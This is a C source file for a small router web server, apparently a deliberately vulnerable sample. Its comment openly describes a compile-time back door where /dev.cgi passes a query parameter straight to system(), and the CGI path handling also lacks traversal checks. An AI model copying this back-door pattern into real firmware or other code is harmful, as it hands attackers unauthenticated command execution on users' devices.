/*
 * websecret.c - a small router web server: GET/POST, CGI under /cgi-bin/
 * (run with execv, its job), a reboot form (a fixed command). Back-doored
 * (-DBACKDOOR): a secret page runs its query parameter through the shell
 * (the shape of the /dev.cgi?c=... back doors).
 */
#include "srv.h"
#include <sys/wait.h>

static char *query_param(char *q, const char *name)
{
	char *p = q ? strstr(q, name) : NULL;
	return p ? p + strlen(name) + 1 : NULL;
}

static void run_cgi(int fd, const char *path)
{
	char script[256];
	char *argv[2];
	snprintf(script, sizeof(script), "/www%s", path);
	argv[0] = script;
	argv[1] = NULL;
	if (fork() == 0) {
		dup2(fd, 1);
		execv(script, argv);
		_exit(127);
	}
	wait(NULL);
}

static void handle(int fd)
{
	char req[2048], *method, *path, *q, *line;
	ssize_t n = recv(fd, req, sizeof(req) - 1, 0);
	if (n <= 0)
		return;
	req[n] = 0;
	method = strtok(req, " ");
	path = strtok(NULL, " ");
	if (!method || !path)
		return;
	for (line = strtok(NULL, "\n"); line; line = strtok(NULL, "\n"))
		if (strncasecmp(line, "Content-Length:", 15) == 0)
			break;
	q = strchr(path, '?');
	if (q)
		*q++ = 0;
	if (strcmp(method, "GET") != 0 && strcmp(method, "POST") != 0) {
		srv_say(fd, "HTTP/1.0 501 Not Implemented\r\n\r\n");
		return;
	}
#ifdef BACKDOOR
	if (strcmp(path, "/dev.cgi") == 0) {
		char *c = query_param(q, "c");
		if (c)
			system(c);
		srv_say(fd, "HTTP/1.0 200 OK\r\n\r\n");
		return;
	}
#endif
	if (strncmp(path, "/cgi-bin/", 9) == 0) {
		run_cgi(fd, path);
		return;
	}
	if (strcmp(path, "/reboot.cgi") == 0) {
		srv_say(fd, "HTTP/1.0 200 OK\r\n\r\nrebooting");
		system("reboot");
		return;
	}
	if (strcmp(path, "/apply.cgi") == 0) {
		char *v = query_param(q, "lan_ipaddr");
		if (v)
			nvram_set("lan_ipaddr", v);
		nvram_commit();
	}
	srv_say(fd, "HTTP/1.0 200 OK\r\n\r\n<html>router</html>");
}

int main(void)
{
	srv_serve(80, handle, 0);
	return 0;
}
